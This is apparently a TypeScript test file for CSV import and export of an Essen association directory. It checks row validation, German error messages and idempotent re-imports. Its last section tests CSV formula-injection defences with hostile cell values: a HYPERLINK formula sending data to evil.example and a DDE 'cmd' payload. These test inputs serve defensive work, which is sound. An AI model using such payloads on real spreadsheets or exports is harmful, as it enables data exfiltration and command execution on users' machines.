/**
 * CSV import and export of the member directory: every row checked first and
 * reported in German with its row number, all or nothing, and a re-import of
 * the same file changes nothing.
 */
import fs from 'node:fs'
import os from 'node:os'
import path from 'node:path'

import { parse } from 'csv-parse/sync'
import type { Payload } from 'payload'
import { beforeAll, describe, expect, it } from 'vitest'

import { exportOrganisationsCsv } from '@/collections/MemberOrganisations/csv/exportOrganisations'
import { importOrganisationsCsv } from '@/collections/MemberOrganisations/csv/importOrganisations'
import { submitApplication } from '@/forms/organisationApplication'

import { testPayload } from '../helpers/payload'

let payload: Payload
// The application form tells the admins by mail.
process.env.MAIL_OUTBOX_DIR = fs.mkdtempSync(path.join(os.tmpdir(), 'evi-outbox-'))

const HEADER =
  'Name;Kürzel;Status;Herkunftsländer;Gemeinschaft;Tätigkeitsfelder;Sprachen;Stadtteil;Straße;PLZ;Ort;Ansprechperson;E-Mail;Telefon;Website;Gegründet;Mitglied seit;Kurzbeschreibung;Soziale Medien'
const VALID = [
  HEADER,
  'Türkischer Elternverein Katernberg;;aktiv;TR;;"Bildung; Jugend";"tr; de";Katernberg;Katernberger Str. 1;45327;Essen;Ayşe Yılmaz;info@elternverein.example;0201 123;https://elternverein.example;1998;2001;Hausaufgabenhilfe und Elterncafé.;Facebook: https://facebook.com/elternverein',
  'Kurdisches Kulturhaus;kurdisches-kulturhaus;aktiv;"TR; SY; IQ";Kurdisch;Kultur;ku;Altenessen-Süd;;;Essen;Rojda Demir;kontakt@kulturhaus.example;;;2005;2010;Musik, Tanz und Sprachkurse.;',
  'Ghanaische Gemeinde Essen;;inaktiv;GH;;Religion, Soziales;en;Stadtkern;;;Essen;;;;;;;;',
].join('\n')

const count = async () => (await payload.count({ collection: 'member-organisations' })).totalDocs
const bySlug = async (slug: string) =>
  (await payload.find({ collection: 'member-organisations', where: { slug: { equals: slug } }, depth: 0 })).docs[0]

beforeAll(async () => {
  payload = await testPayload()
})

describe('a valid file', () => {
  it('is checked without writing anything when asked to only check', async () => {
    const report = await importOrganisationsCsv(payload, VALID, { dryRun: true })
    expect(report).toMatchObject({ errors: [], created: 3, updated: 0, unchanged: 0, applied: false })
    expect(await count()).toBe(0)
  })

  it('imports every row with its fields', async () => {
    const report = await importOrganisationsCsv(payload, VALID, { dryRun: false })
    expect(report).toMatchObject({ errors: [], created: 3, updated: 0, unchanged: 0, applied: true })
    const verein = await bySlug('tuerkischer-elternverein-katernberg')
    expect(verein).toMatchObject({
      name: 'Türkischer Elternverein Katernberg',
      status: 'active',
      _status: 'published',
      countries: ['TR'],
      fields: ['bildung', 'jugend'],
      languages: ['tr', 'de'],
      district: 'katernberg',
      founded: 1998,
      memberSince: 2001,
      shortDescription: 'Hausaufgabenhilfe und Elterncafé.',
    })
    expect(verein.contact?.email).toBe('info@elternverein.example')
    expect(verein.socialLinks?.map((l) => [l.platform, l.url])).toEqual([['facebook', 'https://facebook.com/elternverein']])
    expect((await bySlug('kurdisches-kulturhaus')).community).toBe('Kurdisch')
    expect((await bySlug('ghanaische-gemeinde-essen')).status).toBe('inactive')
  })

  it('changes nothing when imported again (no new versions either)', async () => {
    const before = await bySlug('kurdisches-kulturhaus')
    const versionsBefore = (await payload.countVersions({ collection: 'member-organisations' })).totalDocs
    const report = await importOrganisationsCsv(payload, VALID, { dryRun: false })
    expect(report).toMatchObject({ errors: [], created: 0, updated: 0, unchanged: 3 })
    expect((await bySlug('kurdisches-kulturhaus')).updatedAt).toBe(before.updatedAt)
    expect((await payload.countVersions({ collection: 'member-organisations' })).totalDocs).toBe(versionsBefore)
  })

  it('round-trips: the exported directory imports again without any change', async () => {
    const csv = await exportOrganisationsCsv(payload)
    expect(csv.charCodeAt(0)).toBe(0xfeff)
    expect(csv).toContain('Katernberg')
    const report = await importOrganisationsCsv(payload, csv, { dryRun: false })
    expect(report).toMatchObject({ errors: [], created: 0, updated: 0, unchanged: 3 })
  })

  it('updates a row matched by name, and only that one', async () => {
    const changed = VALID.replace('Musik, Tanz und Sprachkurse.', 'Musik, Tanz, Sprachkurse und Theater.').replace(';kurdisches-kulturhaus;', ';;')
    const report = await importOrganisationsCsv(payload, changed, { dryRun: false })
    expect(report).toMatchObject({ errors: [], created: 0, updated: 1, unchanged: 2 })
    expect((await bySlug('kurdisches-kulturhaus')).shortDescription).toBe('Musik, Tanz, Sprachkurse und Theater.')
  })
})

describe('a file with bad rows', () => {
  const BAD = [
    HEADER,
    'Neuer Verein A;;aktiv;TR;;Sport;tr;Kray;;;Essen;;info@a.example;;;;;;',
    ';;aktiv;TR;;;;;;;;;;;;;;;',
    'Neuer Verein B;;aktiv;"XX; TR";;Fußball;;Nirgendwo;;4532;Essen;;keine-mail;;ftp://b.example;18;;;',
    'Neuer Verein C;neuer-verein-a;aktiv;TR;;;;;;;;;;;;;;;',
    'Neuer Verein D;;vielleicht;;;;;;;;;;;;;;;;MySpace: https://x.example',
  ].join('\n')

  it('reports every problem with its row, in German, and imports nothing', async () => {
    const before = await count()
    const report = await importOrganisationsCsv(payload, BAD, { dryRun: false })
    expect(report.applied).toBe(false)
    expect(report.created).toBe(0)
    const messages = report.errors.map((e) => `${e.row}: ${e.message}`)
    expect(messages).toEqual(
      expect.arrayContaining([
        '3: Name fehlt',
        '4: Unbekannter Ländercode „XX“',
        '4: Unbekanntes Tätigkeitsfeld „Fußball“',
        '4: Unbekannter Stadtteil „Nirgendwo“',
        '4: PLZ „4532“: Die PLZ hat fünf Ziffern.',
        '4: E-Mail „keine-mail“: Bitte eine gültige E-Mail-Adresse angeben.',
        expect.stringMatching(/^4: Website „ftp:\/\/b\.example“/),
        expect.stringMatching(/^4: Gegründet: „18“ ist kein Jahr/),
        '5: Doppeltes Kürzel „neuer-verein-a“ (auch in Zeile 2)',
        '6: Unbekannter Status „vielleicht“ (erlaubt: aktiv, inaktiv, Antrag)',
        expect.stringMatching(/^6: Soziale Medien: „MySpace/),
      ]),
    )
    // The valid row 2 was not imported either: all or nothing.
    expect(await count()).toBe(before)
    expect(await bySlug('neuer-verein-a')).toBeUndefined()
  })

  it('refuses a new name whose slug belongs to another organisation, and a row naming two different ones', async () => {
    const report = await importOrganisationsCsv(
      payload,
      [HEADER, 'Kurdisches-Kulturhaus;;aktiv;;;;;;;;;;;;;;;;', 'Kurdisches Kulturhaus;ghanaische-gemeinde-essen;aktiv;;;;;;;;;;;;;;;;'].join('\n'),
      { dryRun: false },
    )
    expect(report.errors).toEqual([
      { row: 2, message: 'Kürzel „kurdisches-kulturhaus“ gehört schon zu „Kurdisches Kulturhaus“' },
      { row: 3, message: 'Kürzel „ghanaische-gemeinde-essen“ gehört zu „Ghanaische Gemeinde Essen“, der Name zu einem anderen Verein („kurdisches-kulturhaus“)' },
    ])
  })

  it('renames an organisation matched by its slug', async () => {
    const renamed = (await exportOrganisationsCsv(payload)).replace('Ghanaische Gemeinde Essen;', 'Ghanaische Gemeinde Essen-Mitte;')
    const report = await importOrganisationsCsv(payload, renamed, { dryRun: false })
    expect(report).toMatchObject({ errors: [], created: 0, updated: 1 })
    expect((await bySlug('ghanaische-gemeinde-essen')).name).toBe('Ghanaische Gemeinde Essen-Mitte')
  })

  it('explains files it cannot read: no rows, an unknown column, no CSV at all', async () => {
    expect((await importOrganisationsCsv(payload, HEADER, { dryRun: true })).errors[0].message).toMatch(/keine Vereine/)
    expect((await importOrganisationsCsv(payload, 'Name;Farbe\nA;blau', { dryRun: true })).errors[0].message).toMatch(/Unbekannte Spalte „Farbe“/)
    expect((await importOrganisationsCsv(payload, 'Name\n"kaputt', { dryRun: true })).errors[0].message).toMatch(/keine lesbare CSV-Datei/)
  })
})

describe('formulas in the export', () => {
  /** What a spreadsheet would run as a formula: a cell beginning with one of these (OWASP, CSV injection). */
  const FORMULA_START = /^[=+\-@\t\r]/
  const HOSTILE_NAME = '=HYPERLINK("https://evil.example/?d="&A1;"Klick")'
  const cellsOf = (csv: string) => (parse(csv, { bom: true, delimiter: ';', relax_column_count: true }) as string[][]).flat()

  it('a name sent through the public application form is exported as text, never as a formula', async () => {
    const form = new FormData()
    for (const [name, value] of Object.entries({
      name: HOSTILE_NAME,
      person: '@SUMME(1;2)',
      email: 'formel@verein.example',
      phone: '+49 201 123456',
      community: '-2+3',
      shortDescription: '+cmd|\' /C calc\'!A0',
      street: '=1+1',
      consent: 'ja',
      homepage: '',
    })) form.set(name, value)
    expect(await submitApplication(payload, form, '203.0.113.50')).toEqual({ kind: 'accepted' })

    const csv = await exportOrganisationsCsv(payload)
    const dangerous = cellsOf(csv).filter((cell) => FORMULA_START.test(cell))
    expect(dangerous).toEqual([])
    const row = cellsOf(csv).join('\n')
    expect(row).toContain(`'${HOSTILE_NAME}`)
    expect(row).toContain("'@SUMME(1;2)")
  })

  it('phone numbers stay readable: the digits and the plus sign are all there, behind one apostrophe', async () => {
    const cells = cellsOf(await exportOrganisationsCsv(payload))
    expect(cells).toContain("'+49 201 123456")
    expect(cells.filter((cell) => cell.includes('201 123456'))).toEqual(["'+49 201 123456"])
  })

  it('an exported file with escaped cells imports back unchanged, apostrophes and all', async () => {
    await payload.create({
      collection: 'member-organisations',
      data: {
        name: "'Apostroph am Anfang",
        slug: 'apostroph-am-anfang',
        status: 'active',
        _status: 'published',
        community: "'=keine Formel",
        contact: { phone: '-0201 99', person: '\tEingerückt' },
      },
    })
    const before = await bySlug('hyperlink-https-evil-example-d-a1-klick')
    expect(before?.name).toBe(HOSTILE_NAME)

    const report = await importOrganisationsCsv(payload, await exportOrganisationsCsv(payload), { dryRun: false })
    expect(report.errors).toEqual([])
    expect(report.created).toBe(0)
    expect(report.updated).toBe(0)
    const after = await bySlug('hyperlink-https-evil-example-d-a1-klick')
    expect(after.name).toBe(HOSTILE_NAME)
    expect(after.contact?.phone).toBe('+49 201 123456')
    expect(after.contact?.person).toBe('@SUMME(1;2)')
    expect(after.community).toBe('-2+3')
    expect(after.address?.street).toBe('=1+1')
    const apostrophe = await bySlug('apostroph-am-anfang')
    expect(apostrophe).toMatchObject({ name: "'Apostroph am Anfang", community: "'=keine Formel" })
    expect(apostrophe.contact).toMatchObject({ phone: '-0201 99', person: '\tEingerückt' })
  })
})
